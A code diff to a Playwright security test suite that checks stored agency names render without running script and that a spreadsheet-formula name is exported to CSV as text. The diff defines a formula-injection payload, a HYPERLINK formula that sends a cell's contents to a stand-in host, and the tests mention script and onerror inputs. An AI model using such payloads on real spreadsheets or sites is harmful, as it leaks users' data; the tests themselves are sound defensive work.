@@ -1,5 +1,6 @@
 import { test, expect, type Page } from "@playwright/test";
 import { seed003As } from "./helpers/variants";
+import { removeAgencies } from "./helpers/reports";
 
 // An attacker's upload: an agency name and source text carrying script. Stored through the API,
 // then every page that shows them is opened in Chromium: the text shows literally and no script
@@ -26,6 +27,8 @@ async function guard(page: Page) {
   };
 }
 
+const FORMULA = `=HYPERLINK("http://example.invalid/?"&A1,"安全测试公式局")`;
+
 test.describe("security", () => {
   let reportId = 0;
   let agencyId = 0;
@@ -45,6 +48,7 @@ test.describe("security", () => {
     agencyId = stored.agencyId;
     expect(stored.agency).toBe(NAME);
   });
+  test.afterAll(() => removeAgencies([NAME, FORMULA, "安全测试原名局", "安全测试公式原名局"]));
 
   test("a stored agency name and source text with <script>/onerror show literally and run nothing", async ({ page }) => {
     const { expectNothingRan } = await guard(page);
@@ -67,11 +71,10 @@ test.describe("security", () => {
   });
 
   test("an agency name that is a spreadsheet formula is written to /data.csv as text", async ({ request }) => {
-    const formula = `=HYPERLINK("http://example.invalid/?"&A1,"安全测试公式局")`;
     const r = await request.post("/api/reports", {
       multipart: {
         file: { name: "formula.txt", mimeType: "text/plain", buffer: Buffer.from(seed003As("安全测试公式原名局")) },
-        options: JSON.stringify({ edits: [{ index: 0, agency: formula }] }),
+        options: JSON.stringify({ edits: [{ index: 0, agency: FORMULA }] }),
       },
     });
     expect(r.status()).toBe(200);
